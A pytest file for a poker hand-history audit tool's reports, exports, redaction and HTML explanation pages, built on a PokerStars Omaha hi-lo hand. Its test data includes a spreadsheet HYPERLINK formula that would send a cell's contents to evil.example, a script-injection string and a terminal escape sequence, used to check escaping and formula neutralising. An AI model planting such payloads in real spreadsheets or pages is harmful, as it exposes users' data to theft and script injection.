"""Reports: the summary, terminal text, exports, redaction, the HTML report and the
dispute explanation, on a small hand-written run and a real PokerStars hand.

The real hand is PokerStars #1676150046 (``PokerStars/OmahaHiLo/PLO8-9max-USD-STT-5.00-
200505.hero.quartered.txt``): main pot 4,765, high to seat 3, low tied by seats 6 and 9;
side pot 86, high to seat 9, low tied (22 to seat 6, first left of the button, 21 to
seat 9). Its settlement below is what ``hhaudit settle`` gives for that showdown.
"""

from __future__ import annotations

import io
import hashlib
import json
import re

import polars as pl
import pytest
from typer.testing import CliRunner

from audit.cli.app import app
from audit.report_job import RANDOM_KEY_WARNING
from reports import explain, export, html_report, terminal
from reports.redact import Redactor, redact_explanation, redact_findings
from reports.summary import (
    Money, ReportInputError, conform_findings, money_totals, summarise, verdict_tally, worst_findings,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"


def explanation_1676150046():
    """PokerStars #1676150046 (PLO8 STT, 2005): main 4,765 high seat 3, low tied 6 and 9; side 86."""
    return {
        "hand_key": "pokerstars:1676150046", "hand_id": "1676150046",
        "platform": "pokerstars", "game": "omaha_hilo",
        "policy": "pokerstars",
        "policy_options": {"hilo_between_halves": "high", "tie_order_button": "left_of_button",
                           "identical_hands_both_halves": "pool_even",
                           "multi_remainder": "one_each_in_order", "unit": "currency_minor"},
        "currency": None, "amount_scale": 1, "button": 3,
        "boards": [["3d", "Ad", "As", "5c", "7c"]],
        "seats": [
            {"seat": 1, "player": "Player0", "cards": [], "contributed": 0, "folded": True,
             "mucked": False, "cashed_out": False, "showed": False},
            {"seat": 2, "player": "Player1", "cards": [], "contributed": 0, "folded": True,
             "mucked": False, "cashed_out": False, "showed": False},
            {"seat": 3, "player": "Player2", "cards": ["Qs", "Ac", "7h", "Tc"],
             "contributed": 1555, "folded": False, "mucked": False, "cashed_out": False,
             "showed": True},
            {"seat": 4, "player": "Player3", "cards": [], "contributed": 50, "folded": True,
             "mucked": False, "cashed_out": False, "showed": False},
            {"seat": 5, "player": "Player4", "cards": [], "contributed": 50, "folded": True,
             "mucked": False, "cashed_out": False, "showed": False},
            {"seat": 6, "player": "Player5", "cards": ["2d", "9h", "3s", "4d"],
             "contributed": 1900, "folded": False, "mucked": False, "cashed_out": False,
             "showed": True},
            {"seat": 7, "player": "Player6", "cards": [], "contributed": 0, "folded": True,
             "mucked": False, "cashed_out": False, "showed": False},
            {"seat": 9, "player": "Hero", "cards": ["6h", "3h", "2h", "4s"],
             "contributed": 1598, "folded": False, "mucked": False, "cashed_out": False,
             "showed": True},
        ],
        "payouts": {"1": 0, "2": 0, "3": 2383, "4": 0, "5": 0, "6": 1515, "7": 0, "9": 1255},
        "uncalled": {"6": 302}, "rake": 0, "house": 0, "unit": 1,
        "pots": [
            {"index": 0, "amount": 4765, "rake": 0, "net": 4765, "contenders": ["3", "6", "9"],
             "house": 0, "odd_chips": [],
             "runs": [{"run": 1, "amount": 4765,
                       "odd_chips": [{"amount": 1, "rule": "hilo_between_halves=high",
                                      "half": "high"}],
                       "halves": [
                           {"half": "high", "amount": 2383, "winners": ["3"],
                            "awards": {"3": 2383}, "odd_chips": []},
                           {"half": "low", "amount": 2382, "winners": ["6", "9"],
                            "awards": {"6": 1191, "9": 1191}, "odd_chips": []}]}]},
            {"index": 1, "amount": 86, "rake": 0, "net": 86, "contenders": ["6", "9"],
             "house": 0, "odd_chips": [],
             "runs": [{"run": 1, "amount": 86, "odd_chips": [],
                       "halves": [
                           {"half": "high", "amount": 43, "winners": ["9"],
                            "awards": {"9": 43}, "odd_chips": []},
                           {"half": "low", "amount": 43, "winners": ["6", "9"],
                            "awards": {"6": 22, "9": 21},
                            "odd_chips": [{"amount": 1, "rule": "tie_order_button=left_of_button",
                                           "seat": "6"}]}]}]},
        ],
        "hands": {
            "3": [{"run": 1, "high": {"cards": ["As", "Ad", "Ac", "7h", "7c"], "hole": ["Ac", "7h"],
                                      "board": ["As", "Ad", "7c"],
                                      "description": "a full house, Aces full of Sevens"}}],
            "6": [{"run": 1,
                   "high": {"cards": ["5c", "4d", "3d", "2d", "As"], "hole": ["4d", "2d"],
                            "board": ["5c", "3d", "As"], "description": "a straight, Ace to Five"},
                   "low": {"cards": ["5c", "4d", "3d", "2d", "As"], "hole": ["4d", "2d"],
                           "board": ["5c", "3d", "As"], "description": "5,4,3,2,A"}}],
            "9": [{"run": 1,
                   "high": {"cards": ["7c", "6h", "5c", "4s", "3d"], "hole": ["6h", "4s"],
                            "board": ["7c", "5c", "3d"],
                            "description": "a straight, Three to Seven"},
                   "low": {"cards": ["5c", "4s", "3d", "2h", "As"], "hole": ["4s", "2h"],
                           "board": ["5c", "3d", "As"], "description": "5,4,3,2,A"}}],
        },
        "expected": {"3": 2383, "6": 1515, "9": 1255},
        "recorded": {"3": 2383, "6": 1515, "9": 1255},
        "findings": [], "verdict": "clean", "reason": None,
    }


def small_hands():
    return pl.DataFrame({
        "hand_key": ["pokerstars:1676150046", "pokerstars:100", "pokerstars:101",
                     "ggpoker:HD1", "ggpoker:HD2", "winamax:W1"],
        "hand_id": ["1676150046", "100", "101", "HD1", "HD2", "W1"],
        "platform": ["pokerstars", "pokerstars", "pokerstars", "ggpoker", "ggpoker", "winamax"],
        "game": ["omaha_hilo", "omaha_hilo", "holdem", "omaha_hilo", "omaha_hilo", "holdem"],
        "verdict": ["findings", "clean", "findings", "unverifiable", "relative_only", "findings"],
        "reason": [None, None, None, "hole cards of seat 2 unknown", "no rake printed", None],
        "policy": ["pokerstars", "pokerstars", "pokerstars", "ggpoker", "ggpoker", "winamax"],
        "currency": [None, "USD", "USD", "USD", "USD", "EUR"],
        "amount_scale": [1, 100, 100, 100, 100, 100],
        "is_tournament": [True, False, False, False, False, False],
    })

def small_findings():
    return pl.DataFrame({
        "hand_key": ["pokerstars:1676150046", "pokerstars:1676150046", "pokerstars:101",
                     "pokerstars:101", "winamax:W1"],
        "hand_id": ["1676150046", "1676150046", "101", "101", "W1"],
        "platform": ["pokerstars", "pokerstars", "pokerstars", "pokerstars", "winamax"],
        "game": ["omaha_hilo", "omaha_hilo", "holdem", "holdem", "holdem"],
        "seat": [9, 6, 2, 5, None],
        "player": ["Hero", "Player5", HYPERLINK, SCRIPT, None],
        "pot": [1, 1, 0, 0, None],
        "run": [1, 1, None, None, None],
        "half": ["low", "low", "whole", "whole", None],
        "recorded": [22, 21, 1500, 0, 50],
        "expected": [21, 22, 0, 1500, 45],
        "delta": [1, -1, 1500, -1500, 5],
        "amount_scale": [1, 1, 100, 100, 100],
        "currency": [None, None, "USD", "USD", "EUR"],
        "kind": ["odd_chip", "odd_chip", "wrong_winner", "wrong_winner", "rake"],
        "detail": ["side pot low half: odd chip paid to Hero, the rule gives it to Player5",
                   "side pot low half: Player5 short of the odd chip",
                   f"pot paid to {HYPERLINK}; {SCRIPT} holds the best hand",
                   f"{SCRIPT} not paid", "rake 0.50 above the 0.45 cap"],
        "accepted": [False, False, False, False, True],
        "accept_reason": [None, None, None, None, "known rake rounding"],
    })

def disputed_explanation():
    e = explanation_1676150046()
    e["recorded"] = {"3": 2383, "6": 1514, "9": 1256}
    e["verdict"] = "findings"
    rows = small_findings().filter(pl.col("hand_key") == "pokerstars:1676150046")
    e["findings"] = rows.to_dicts()
    return e


MANIFEST = {
    "run_id": "run-2024-0001", "tool_version": "0.1.0", "schema_version": 1,
    "policies": {"pokerstars": {"name": "pokerstars", "hash": "1dc823858732fa39"}},
    "inputs": [{"path": "corpus/PLO8-9max-USD-STT-5.00-200505.hero.quartered.txt",
                "sha256": "ab" * 32}],
    "outputs": [{"path": "findings.parquet", "sha256": "cd" * 32}],
}

SUMMARY_TEXT = """\
hhaudit report
hands audited: 6
  clean: 1
  with findings: 3
  unverifiable: 1
  relative only: 1
findings: 5 (not accepted 4, accepted 1)
money involved: EUR 0.05; USD 15.00; 1 chips (pokerstars)

hands by platform and game
platform    game        audited  clean  findings  unverifiable  relative_only
ggpoker     omaha_hilo        2      0         0             1              1
pokerstars  holdem            1      0         1             0              0
pokerstars  omaha_hilo        2      1         1             0              0
winamax     holdem            1      0         1             0              0

findings by platform, game and kind
platform    game        kind          findings  accepted  money
pokerstars  holdem      wrong_winner         2         0  USD 15.00
pokerstars  omaha_hilo  odd_chip             2         0  1 chips (pokerstars)
winamax     holdem      rake                 1         1  EUR 0.05

findings by kind
kind          findings  accepted  money
wrong_winner         2         0  USD 15.00
odd_chip             2         0  1 chips (pokerstars)
rake                 1         1  EUR 0.05
"""

WORST_TEXT = """\
worst findings (EUR)
delta  recorded  expected  kind  hand        seat  player  pot  run  half  accepted  detail
 0.05      0.50      0.45  rake  winamax:W1     -  -         -    -  -     yes       rake 0.50 above the 0.45 cap

worst findings (USD)
delta  recorded  expected  kind          hand            seat  player                                            pot  run  half   accepted  detail
15.00     15.00      0.00  wrong_winner  pokerstars:101     2  =HYPERLINK("http://evil.example/?x="&A1,"click")    0    -  whole  no        pot paid to =HYPERLINK("http://evil.example/?x="&A1,"click"); <script>alert(1)</script> holds the best hand
(3 more findings not shown)
"""

CSV_TEXT = """\
hand_key,hand_id,platform,game,seat,player,pot,run,half,recorded,expected,delta,amount_scale,currency,kind,detail,accepted,accept_reason
pokerstars:1676150046,1676150046,pokerstars,omaha_hilo,9,Hero,1,1,low,22,21,1,1,,odd_chip,"side pot low half: odd chip paid to Hero, the rule gives it to Player5",false,
pokerstars:1676150046,1676150046,pokerstars,omaha_hilo,6,Player5,1,1,low,21,22,-1,1,,odd_chip,side pot low half: Player5 short of the odd chip,false,
pokerstars:101,101,pokerstars,holdem,2,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",0,,whole,1500,0,1500,100,USD,wrong_winner,"pot paid to =HYPERLINK(""http://evil.example/?x=""&A1,""click""); <script>alert(1)</script> holds the best hand",false,
pokerstars:101,101,pokerstars,holdem,5,<script>alert(1)</script>,0,,whole,0,1500,-1500,100,USD,wrong_winner,<script>alert(1)</script> not paid,false,
winamax:W1,W1,winamax,holdem,,,,,,50,45,5,100,EUR,rake,rake 0.50 above the 0.45 cap,true,known rake rounding
"""


# --- summary ---------------------------------------------------------------------------

def test_terminal_summary_text_is_exact():
    assert terminal.render_summary(summarise(small_hands(), small_findings())) == SUMMARY_TEXT


def test_a_summary_of_the_verdicts_tally_is_that_of_the_verdicts():
    tally = verdict_tally(small_hands())
    assert (tally.columns, tally["hands"].sum()) == (["platform", "game", "verdict", "hands"], 6)
    assert summarise(tally, small_findings()) == summarise(small_hands(), small_findings())
    assert terminal.render_summary(summarise(tally, small_findings())) == SUMMARY_TEXT


def test_summary_counts_by_platform_game_and_kind():
    summary = summarise(small_hands(), small_findings())
    assert (summary.hands.audited, summary.hands.clean, summary.hands.findings,
            summary.hands.unverifiable, summary.hands.relative_only) == (6, 1, 3, 1, 1)
    assert (summary.findings, summary.accepted, summary.not_accepted) == (5, 1, 4)
    assert [(g.platform, g.game, g.findings) for g in summary.groups] == [
        ("ggpoker", "omaha_hilo", 0), ("pokerstars", "holdem", 2),
        ("pokerstars", "omaha_hilo", 2), ("winamax", "holdem", 1)]
    # kinds in the precedence order of rules.vocab.FindingKind
    assert [k.kind for k in summary.kinds] == ["wrong_winner", "odd_chip", "rake"]
    # a misallocation counts once: 1500 went to the wrong seat, not 3000
    assert summary.money == (Money("EUR", 100, 5), Money("USD", 100, 1500), Money(None, 1, 1, "pokerstars"))
    assert [(p, c.audited) for p, c in summary.verdicts_by_platform] == [
        ("ggpoker", 2), ("pokerstars", 3), ("winamax", 1)]


def test_money_is_never_added_across_currencies_or_to_chips_and_stays_exact():
    big = 2**53 + 1  # a float would lose the last unit
    findings = small_findings().head(1).vstack(small_findings().head(1)).with_columns(
        pl.Series("delta", [big, -big]), pl.Series("currency", ["USD", None]),
        pl.Series("amount_scale", [100, 1]))
    assert money_totals(conform_findings(findings)) == (Money("USD", 100, big), Money(None, 1, big, "pokerstars"))
    assert Money("USD", 100, big).label() == "USD 90071992547409.93"


def test_one_currency_at_two_scales_is_summed_at_the_finer_scale():
    findings = small_findings().head(2).with_columns(
        pl.Series("delta", [3, -7]), pl.Series("currency", ["SEK", "SEK"]),
        pl.Series("amount_scale", [1, 100]))
    # one hand: overpaid 300 (3 at scale 1), underpaid 7: what went to the wrong seat is 300
    assert money_totals(conform_findings(findings)) == (Money("SEK", 100, 300),)


def test_worst_findings_rank_within_each_currency_and_top_keeps_every_currency_worst():
    worst = worst_findings(small_findings())
    assert worst.select("currency", "delta", "rank").rows() == [
        ("EUR", 5, 1), ("USD", 1500, 1), ("USD", -1500, 2), (None, -1, 1), (None, 1, 2)]
    top3 = worst_findings(small_findings(), 3)
    assert top3.select("hand_key", "delta").rows() == [
        ("winamax:W1", 5), ("pokerstars:101", 1500), ("pokerstars:1676150046", -1)]


def test_worst_findings_text_is_exact():
    worst = worst_findings(small_findings(), 2).drop("abs_delta", "rank")
    assert terminal.render_worst(worst, left_out=3) == WORST_TEXT


def test_terminal_escapes_control_characters_from_histories():
    findings = small_findings().with_columns(
        pl.Series("player", ["a\x1b[2Jb", "P", "c", "d", None]))
    text = terminal.render_worst(worst_findings(findings).drop("abs_delta", "rank"))
    assert "\x1b" not in text and "a\\x1b[2Jb" in text


def test_missing_column_is_named():
    with pytest.raises(ReportInputError, match="^findings has no column kind$"):
        summarise(small_hands(), small_findings().drop("kind"))
    with pytest.raises(ReportInputError, match="^hands has no column verdict$"):
        summarise(small_hands().drop("verdict"), small_findings())


# --- exports ---------------------------------------------------------------------------

def test_csv_is_exact_and_neutralises_formulas_but_not_numbers():
    text = export.csv_text(small_findings())
    assert text == CSV_TEXT
    for value in ("=1", "+1", "-x", "@SUM(A1)", "\tx", "\rx"):
        assert export.neutralise(value) == "'" + value
    assert export.neutralise(-1500) == -1500


def test_jsonl_one_object_per_finding_in_column_order():
    buffer = io.StringIO()
    assert export.write_jsonl(small_findings(), buffer) == 5
    lines = buffer.getvalue().splitlines()
    assert len(lines) == 5
    assert lines[4] == (
        '{"hand_key": "winamax:W1", "hand_id": "W1", "platform": "winamax", "game": "holdem", '
        '"seat": null, "player": null, "pot": null, "run": null, "half": null, "recorded": 50, '
        '"expected": 45, "delta": 5, "amount_scale": 100, "currency": "EUR", "kind": "rake", '
        '"detail": "rake 0.50 above the 0.45 cap", "accepted": true, '
        '"accept_reason": "known rake rounding"}')
    assert json.loads(lines[2])["player"] == HYPERLINK  # JSON needs no neutralising
    assert [json.loads(line)["delta"] for line in lines] == [1, -1, 1500, -1500, 5]


def test_parquet_copy_round_trips(tmp_path):
    path = tmp_path / "copy.parquet"
    assert export.write_parquet(small_findings(), path) == 5
    back = pl.read_parquet(path)
    assert back.equals(conform_findings(small_findings()))
    assert [p.name for p in tmp_path.iterdir()] == ["copy.parquet"]


# --- redaction -------------------------------------------------------------------------

def test_pseudonyms_are_stable_keyed_and_distinct():
    one, two = Redactor(b"key"), Redactor(b"key")
    assert one.pseudonym("Hero") == two.pseudonym("Hero")
    assert re.fullmatch(r"Player-[0-9a-f]{6}", one.pseudonym("Hero"))
    assert one.pseudonym("Hero") != Redactor(b"other").pseudonym("Hero")
    assert one.pseudonym("Hero") != one.pseudonym("hero")
    # learning more names later never changes an earlier pseudonym
    before = one.pseudonym("Player5")
    one.learn(["x", "y", "z"])
    assert one.pseudonym("Player5") == before


def test_colliding_digests_get_longer_pseudonyms():
    class Colliding(Redactor):
        def _digest(self, name: str) -> str:
            return "abcdef" + ("11" if name == "A" else "22") + "0" * 56

    r = Colliding(b"k")
    assert (r.pseudonym("A"), r.pseudonym("B")) == ("Player-abcdef", "Player-abcdef22")


def test_redaction_of_findings_and_explanations_is_consistent():
    r = Redactor(b"key")
    findings = redact_findings(small_findings(), r)
    hero = r.pseudonym("Hero")
    assert findings.get_column("player").to_list()[:2] == [hero, r.pseudonym("Player5")]
    assert findings.get_column("detail").to_list()[0] == (
        f"side pot low half: odd chip paid to {hero}, the rule gives it to {r.pseudonym('Player5')}")
    assert findings.get_column("detail").to_list()[3] == f"{r.pseudonym(SCRIPT)} not paid"
    explained = redact_explanation(disputed_explanation(), r)
    assert [s["player"] for s in explained["seats"]][-1] == hero
    assert explained["findings"][0]["player"] == hero
    text = explain.render_text(explained)
    assert "Hero" not in text and "Player5" not in text and text.count(hero) >= 5
    # structural strings are not names, and the input is left untouched
    assert explained["pots"] == disputed_explanation()["pots"]


# --- explanation -----------------------------------------------------------------------

EXPLANATION_TEXT = """\
hand pokerstars:1676150046 (pokerstars #1676150046), game omaha_hilo
amounts in chips
verdict: findings
policy: pokerstars
  hilo_between_halves=high, identical_hands_both_halves=pool_even, multi_remainder=one_each_in_order, tie_order_button=left_of_button, unit=currency_minor

seats (button: seat 3)
  seat 1: Player0  cards -  put in 0  (folded)
  seat 2: Player1  cards -  put in 0  (folded)
  seat 3: Player2  cards Qs Ac 7h Tc  put in 1555  (showed)
  seat 4: Player3  cards -  put in 50  (folded)
  seat 5: Player4  cards -  put in 50  (folded)
  seat 6: Player5  cards 2d 9h 3s 4d  put in 1900  (showed)
  seat 7: Player6  cards -  put in 0  (folded)
  seat 9: Hero  cards 6h 3h 2h 4s  put in 1598  (showed)
board: 3d Ad As 5c 7c

best hands
  seat 3 Player2 high: a full house, Aces full of Sevens: As Ad Ac 7h 7c (hole Ac 7h, board As Ad 7c)
  seat 3 Player2 low: no qualifying low
  seat 6 Player5 high: a straight, Ace to Five: 5c 4d 3d 2d As (hole 4d 2d, board 5c 3d As)
  seat 6 Player5 low: 5,4,3,2,A: 5c 4d 3d 2d As (hole 4d 2d, board 5c 3d As)
  seat 9 Hero high: a straight, Three to Seven: 7c 6h 5c 4s 3d (hole 6h 4s, board 7c 5c 3d)
  seat 9 Hero low: 5,4,3,2,A: 5c 4s 3d 2h As (hole 4s 2h, board 5c 3d As)

pots
  main pot: 4765, rake 0, net 4765; contenders: seat 3 Player2, seat 6 Player5, seat 9 Hero
    high half 2383: seat 3 Player2 2383
    low half 2382: tie, seat 6 Player5 1191, seat 9 Hero 1191
    odd unit 1 to the high half: hilo_between_halves=high (the odd unit between the halves goes to the high half)
  side pot 1: 86, rake 0, net 86; contenders: seat 6 Player5, seat 9 Hero
    high half 43: seat 9 Hero 43
    low half 43: tie, seat 6 Player5 22, seat 9 Hero 21
      odd unit 1 to seat 6 Player5: tie_order_button=left_of_button (among tied winners, the first seat clockwise from the button gets the odd unit, the button last)
  uncalled, returned to seat 6 Player5: 302
  rake and fees: 0

recorded against expected
  seat 3 Player2: recorded 2383, expected 2383  delta 0
  seat 6 Player5: recorded 1514, expected 1515  delta -1  <- differs
  seat 9 Hero: recorded 1256, expected 1255  delta 1  <- differs

findings: 2
  odd_chip: seat 9 Hero (side pot 1, run 1, low half): recorded 22, expected 21, delta 1
    side pot low half: odd chip paid to Hero, the rule gives it to Player5
  odd_chip: seat 6 Player5 (side pot 1, run 1, low half): recorded 21, expected 22, delta -1
    side pot low half: Player5 short of the odd chip
"""


def test_explanation_text_is_exact():
    assert explain.render_text(disputed_explanation()) == EXPLANATION_TEXT


def test_explanation_money_in_currency_with_runs_and_two_boards():
    e = explanation_1676150046()
    e.update(currency="USD", amount_scale=100,
             boards=[["3d", "Ad", "As", "5c", "7c"], ["3d", "Ad", "As", "Kc", "Kd"]])
    e["pots"][1]["runs"] = [dict(e["pots"][1]["runs"][0], run=1, amount=43),
                            dict(e["pots"][1]["runs"][0], run=2, amount=43)]
    text = explain.render_text(e)
    assert "amounts in USD (scale 100)\n" in text
    assert "run 1 (board 1): 3d Ad As 5c 7c\nrun 2 (board 2): 3d Ad As Kc Kd\n" in text
    assert ">run 2 (board 2)</text>" in explain.table_svg(e) and "run 2 high: Hero 0.43" in explain.table_svg(e)
    assert "  main pot: 47.65, rake 0.00, net 47.65;" in text
    assert "    run 2: 0.43\n      high half 0.43: seat 9 Hero 0.43\n" in text


def test_explanation_page_draws_the_table():
    page = explain.render_html(disputed_explanation())
    assert page.startswith("<!DOCTYPE html>")
    assert page.count('<g class="seat"') == 8
    assert page.count('<g class="card" data-card=') == 5 + 3 * 4  # board and shown hands
    assert '<ellipse' in page and 'class="table-picture"' in page
    assert ">D</text>" in page  # the button
    assert "got 1256 (expected 1255)" in page
    assert "&lt;- differs" in page  # the text explanation, escaped, below the picture
    assert "http://" not in page.replace('xmlns="http://www.w3.org/2000/svg"', "")


def test_explanation_page_escapes_names():
    e = disputed_explanation()
    e["seats"][-1]["player"] = 'Bob "the" <b>&amp'
    page = explain.render_html(e)
    assert "<b>&amp" not in page
    assert "Bob &quot;the&quot; &lt;b&gt;&amp;amp" in page


# --- HTML report -----------------------------------------------------------------------

def _report(**kwargs) -> str:
    return html_report.render_report(small_hands(), small_findings(), MANIFEST,
                                     [disputed_explanation()], **kwargs)


def test_html_report_structure_links_and_escaping():
    page = _report()
    assert page.count('<tr class="finding') == 5
    assert page.count('<a href="#hand-pokerstars-1676150046">') == 2
    assert page.count('<section class="explanation" id="hand-pokerstars-1676150046">') == 1
    assert page.count('class="chart chart-kinds"') == 1
    assert page.count('class="chart chart-verdicts"') == 1
    assert SCRIPT not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert HYPERLINK not in page
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)" in page
    assert "2 hands with findings shown have no explanation in this report." in page
    assert "Showing all 5 findings" in page
    assert '<td class="num" data-v="-1500">-15.00</td>' in page
    assert "run-2024-0001" in page and "cd" * 32 in page


def test_html_report_is_self_contained():
    page = _report()
    assert not re.search(r"""\b(src|href)\s*=\s*["'](?!#)""", page)
    assert "url(" not in page and "@import" not in page and "@font-face" not in page
    outside_namespaces = page.replace('xmlns="http://www.w3.org/2000/svg"', "")
    # the only URL left is the (escaped, inert) text of a hostile player name
    assert re.findall(r"https?://[^\s&\"<]*", outside_namespaces) == [
        "http://evil.example/?x=", "http://evil.example/?x="]
    assert "Content-Security-Policy" in page and "default-src 'none'" in page


def test_html_report_top_says_how_many_are_left_out():
    page = _report(top=2)
    assert page.count('<tr class="finding') == 2
    assert "Showing the worst 2 of 5 findings; 3 left out" in page
    assert 'data-shown="2" data-total="5" data-left-out="3"' in page
    # the explained hand has no finding among the two shown, so it is not embedded
    assert 'class="explanation"' not in page


def test_html_report_redacted_everywhere():
    r = Redactor(b"key")
    page = _report(redactor=r)
    for name in ["Hero", "Player0", "Player5", "Player6", SCRIPT, "&lt;script&gt;", "HYPERLINK"]:
        assert name not in page, name
    hero = r.pseudonym("Hero")
    assert page.count(hero) >= 8  # table, details, picture, text: one pseudonym throughout
    assert 'id="redacted"' in page
    assert page == _report(redactor=Redactor(b"key"))  # stable from run to run


# --- hhaudit report --------------------------------------------------------------------

runner = CliRunner()


@pytest.fixture()
def run_out(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    small_findings().write_parquet(out / "findings.parquet")
    small_hands().write_parquet(out / "hands.parquet")
    (out / "explanations.jsonl").write_text(json.dumps(disputed_explanation()) + "\n",
                                            encoding="utf-8")
    outputs = [{"file": name, "sha256": hashlib.sha256((out / name).read_bytes()).hexdigest()}
               for name in ("findings.parquet", "hands.parquet", "explanations.jsonl")]
    (out / "manifest.json").write_text(json.dumps({**MANIFEST, "outputs": outputs}), encoding="utf-8")
    return out


def test_cli_table(run_out):
    result = runner.invoke(app, ["report", str(run_out), "--top", "2"])
    assert result.exit_code == 0, result.output
    assert result.stdout == (SUMMARY_TEXT.replace("hhaudit report\n",
                                                  "hhaudit report: run run-2024-0001\n", 1)
                             + "\n" + WORST_TEXT)


def test_cli_csv_and_jsonl_to_files(run_out, tmp_path):
    result = runner.invoke(app, ["report", str(run_out), "--format", "csv",
                                 "--output", str(tmp_path / "f.csv")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "f.csv").read_text(encoding="utf-8") == CSV_TEXT
    assert result.stderr == f"wrote 5 findings to {tmp_path / 'f.csv'}\n"
    result = runner.invoke(app, ["report", str(run_out), "--format", "jsonl", "--top", "1"])
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["hand_key"] for line in result.stdout.splitlines()] == ["winamax:W1"]


def test_cli_redaction_is_keyed_by_the_operators_secret_never_the_run_id(run_out, monkeypatch, tmp_path):
    monkeypatch.delenv("HHAUDIT_REDACT_KEY", raising=False)
    first = runner.invoke(app, ["report", str(run_out), "--format", "csv", "--redact"])
    second = runner.invoke(app, ["report", str(run_out), "--format", "csv", "--redact"])
    assert first.exit_code == 0 and "Hero" not in first.stdout
    # no key: a random one per report, said so; the run id (in the title) is never the key
    assert first.stderr == RANDOM_KEY_WARNING + "\n"
    assert first.stdout != second.stdout
    assert Redactor("run-2024-0001").pseudonym("Hero") not in first.stdout
    monkeypatch.setenv("HHAUDIT_REDACT_KEY", "secret")
    keyed = runner.invoke(app, ["report", str(run_out), "--format", "csv", "--redact"])
    assert keyed.stderr == "" and f",{Redactor('secret').pseudonym('Hero')}," in keyed.stdout
    key_file = tmp_path / "key"
    key_file.write_bytes(b"from a file\n")
    filed = runner.invoke(app, ["report", str(run_out), "--format", "csv", "--redact",
                                "--redact-key-file", str(key_file)])
    again = runner.invoke(app, ["report", str(run_out), "--format", "csv", "--redact",
                                "--redact-key-file", str(key_file)])
    assert filed.stdout == again.stdout and f",{Redactor(b'from a file').pseudonym('Hero')}," in filed.stdout
    missing = runner.invoke(app, ["report", str(run_out), "--redact", "--redact-key-file",
                                  str(tmp_path / "none")])
    assert missing.exit_code == 2
    assert missing.stderr.startswith(f"hhaudit: {tmp_path / 'none'}: cannot read the redaction key")


def test_cli_parquet_and_html(run_out, tmp_path):
    result = runner.invoke(app, ["report", str(run_out), "--format", "parquet",
                                 "--output", str(tmp_path / "copy.parquet")])
    assert result.exit_code == 0, result.output
    assert pl.read_parquet(tmp_path / "copy.parquet").height == 5
    result = runner.invoke(app, ["report", str(run_out), "--format", "html",
                                 "--output", str(tmp_path / "r.html")])
    assert result.exit_code == 0, result.output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert page.count('<a href="#hand-pokerstars-1676150046">') == 2
    assert 'id="hand-pokerstars-1676150046"' in page


@pytest.mark.parametrize("setup, args, code, message", [
    (lambda out: None, ["--format", "parquet"], 2, "--format parquet needs --output FILE"),
    (lambda out: (out / "findings.parquet").unlink(), [], 3,
     "{out}/findings.parquet: missing (the run's manifest.json lists it)"),
    (lambda out: (out / "hands.parquet").write_bytes(b"not parquet"), [], 3,
     "{out}/hands.parquet: damaged or edited since hhaudit wrote it"),
    (lambda out: (out / "manifest.json").write_text("{", encoding="utf-8"), [], 3,
     "{out}/manifest.json: not valid JSON"),
    (lambda out: (out / "explanations.jsonl").write_text("[]\n", encoding="utf-8"), ["--format", "html"], 3,
     "{out}/explanations.jsonl: damaged or edited since hhaudit wrote it"),
    (lambda out: pl.DataFrame({"hand_key": ["x"]}).write_parquet(out / "findings.parquet"), [], 3,
     "{out}/findings.parquet: damaged or edited since hhaudit wrote it"),
    (lambda out: (out / "manifest.json").unlink(), [], 3,
     "{out} is not a complete hhaudit run (no manifest.json)"),
])
def test_cli_bad_input_names_the_problem(run_out, setup, args, code, message):
    setup(run_out)
    result = runner.invoke(app, ["report", str(run_out), *args])
    assert result.exit_code == code
    assert result.stderr.startswith("hhaudit: " + message.format(out=run_out))
    assert result.stdout == ""


def test_findings_of_another_shape_are_named(run_out):
    pl.DataFrame({"hand_key": ["x"]}).write_parquet(run_out / "findings.parquet")
    manifest = json.loads((run_out / "manifest.json").read_text())
    for entry in manifest["outputs"]:
        entry.pop("sha256")  # a manifest that records no digests: the columns are checked
    (run_out / "manifest.json").write_text(json.dumps(manifest))
    result = runner.invoke(app, ["report", str(run_out)])
    assert (result.exit_code, result.stderr) == (
        2, "hhaudit: findings has no column platform, game, delta, amount_scale, currency, kind\n")


def test_cli_missing_out_folder(tmp_path):
    result = runner.invoke(app, ["report", str(tmp_path / "nope")])
    assert result.exit_code == 2
    assert result.stderr == f"hhaudit: {tmp_path / 'nope'}: no such folder\n"


def test_every_rule_that_places_an_odd_chip_has_plain_words() -> None:
    # explain shows an investigator these words beside each odd chip's rule
    from reports.explain import RULE_TEXT
    from rules.odd_chip import OPTION_VALUES

    placing = {"hilo_between_halves", "tie_order_button", "tie_order_stud", "runout_remainder", "multi_remainder"}
    expected = {f"{option}={value}" for option in placing for value in OPTION_VALUES[option]}
    expected |= {"identical_hands_both_halves=pool_even", "split_half_remainder=to_high_half"}
    assert expected <= set(RULE_TEXT)


def test_money_involved_counts_a_misallocation_once_and_nothing_for_history_inconsistent():
    """Issue 16: a $30.80 missed low is USD 30.80 involved (not 61.60); a contradiction
    of the history with itself moved no money; chips of two tournaments or platforms are
    never added together or to money."""
    findings = pl.DataFrame({
        "hand_key": ["ps:1", "ps:1", "ps:2", "ps:3", "ps:3", "w:4", "ps:5"],
        "platform": ["pokerstars"] * 5 + ["winamax", "pokerstars"], "game": "omaha_hilo",
        "delta": [3080, -3080, 1234, 500, -500, 7, -40],
        "amount_scale": [100, 100, 100, 1, 1, 1, 1],
        "currency": ["USD", "USD", "USD", None, None, None, None],
        "tournament_id": [None, None, None, "77", "77", None, "78"],
        "kind": ["missed_low", "missed_low", "history_inconsistent", "wrong_winner", "wrong_winner",
                 "odd_chip", "not_conserved"]})
    assert [m.label() for m in money_totals(conform_findings(findings))] == [
        "USD 30.80", "500 chips (pokerstars tournament 77)", "40 chips (pokerstars tournament 78)",
        "7 chips (winamax)"]


def test_picture_pot_labels_read_as_label_then_amount():
    picture = explain.table_svg(explanation_1676150046())
    assert "side pot 1: 86</text>" in picture and "main pot: 4765</text>" in picture
    assert "side pot 1 86" not in picture
